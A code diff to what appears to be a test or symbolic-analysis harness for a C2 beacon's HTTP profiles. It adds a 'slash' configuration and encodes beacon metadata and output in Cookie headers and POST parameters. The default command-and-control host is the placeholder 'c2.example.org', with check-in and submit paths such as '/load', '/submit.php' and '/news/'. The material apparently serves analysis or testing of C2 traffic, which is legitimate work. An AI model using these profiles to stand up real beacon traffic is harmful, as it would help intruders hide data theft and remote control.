@@ -57,6 +57,9 @@ CONFIGS = {
     "wrapped": dict(get=[("BUILD", "metadata"), ("BASE64URL", True), ("PREPEND", b"u="), ("APPEND", b";x"), ("HEADER", b"X-Auth")],
                     post=[("BUILD", "id"), ("NETBIOSU", True), ("PARAMETER", b"sid"), ("BUILD", "output"), ("BASE64", True), ("PREPEND", b"data="), ("PRINT", True)],
                     recover=[("print", True), ("prepend", 4), ("append", 3), ("netbios", True)]),
+    "slash": dict(get=[("BUILD", "metadata"), ("BASE64", True), ("HEADER", b"Cookie")],
+                  post=[("BUILD", "id"), ("PARAMETER", b"id"), ("BUILD", "output"), ("PRINT", True)],
+                  recover=[("print", True)], domains=b"c2.example.org,/api/v2/", submit=b"/news/"),
     "sameverb": dict(get=[("BUILD", "metadata"), ("BASE64", True), ("HEADER", b"Cookie")],
                      post=[("BUILD", "id"), ("PARAMETER", b"id"), ("BUILD", "output"), ("PRINT", True)],
                      recover=[("print", True)], verb_post=b"GET"),
@@ -65,7 +68,8 @@ CONFIGS = {
 
 def block(name):
     c = dict(CONFIGS[name])
-    return V.unwrap(SymBytes(CB.http_config(get=c["get"], post=c["post"], recover=c["recover"], verb_post=c.get("verb_post", b"POST"))))
+    return V.unwrap(SymBytes(CB.http_config(get=c["get"], post=c["post"], recover=c["recover"], verb_post=c.get("verb_post", b"POST"),
+                                            domains=c.get("domains", b"c2.example.org,/load"), submit=c.get("submit", b"/submit.php"))))
 
 
 # ----------------------------------------------------------------------------------------------------------------------
@@ -259,21 +263,21 @@ def h_session(cfgname, keys, history, raw):
 def instances(tier):
     q = tier == "quick"
     out = []
-    for cfgname in ("cookie", "sameverb", "wrapped"):
+    for cfgname in ("cookie", "sameverb", "wrapped", "slash"):
         for ml, ul in (((3, 5), (4, 6)) if q else ((3, 5), (4, 6), (4, 8), (3, 11))):
             out.append(Instance("routing %s method=%d uri=%d" % (cfgname, ml, ul), h_routing(cfgname, ml, ul), dict(kind="routing", config=cfgname, method_bytes=ml, uri_bytes=ul),
                                 split=10))
     hist = [("N",), ("T",), ("T", "C"), ("N", "T", "C"), ("T", "C", "C"), ("T", "T"), ("N", "CC"), ("T", "C", "N")]
     if not q:
         hist += [h for h in itertools.product("NTC", repeat=4) if h[0] in "NT" and "C" in h][:20]
-    for cfgname in (("cookie", "netbios", "wrapped", "sameverb") if q else tuple(CONFIGS)):
+    for cfgname in (("cookie", "netbios", "wrapped", "sameverb", "slash") if q else tuple(CONFIGS)):
         for keys in ("rsa", "rand", "aes"):
             for h in hist:
                 if q and cfgname != "cookie" and h not in (("T", "C"), ("N", "T", "C"), ("N", "CC")):
                     continue
-                if q and cfgname == "sameverb" and keys != "rsa":
+                if q and cfgname in ("sameverb", "slash") and keys != "rsa":
                     continue
-                raw = (cfgname == "cookie" and h in (("T", "C"), ("N", "T", "C"))) or not q
+                raw = (cfgname == "cookie" and h in (("T", "C"), ("N", "T", "C"))) or cfgname == "slash" or not q
                 i = Instance("session %s keys=%s history=%s%s" % (cfgname, keys, "".join(h), " raw" if raw else ""), h_session(cfgname, keys, h, raw),
                              dict(kind="session", config=cfgname, keys=keys, history=list(h), raw_http=raw, cost=100 * len(h)), split=10)
                 i.native_patches = list(CL.NATIVE_PATCHES) + [(client, "random_windows_ver", fixed_windows_ver)]
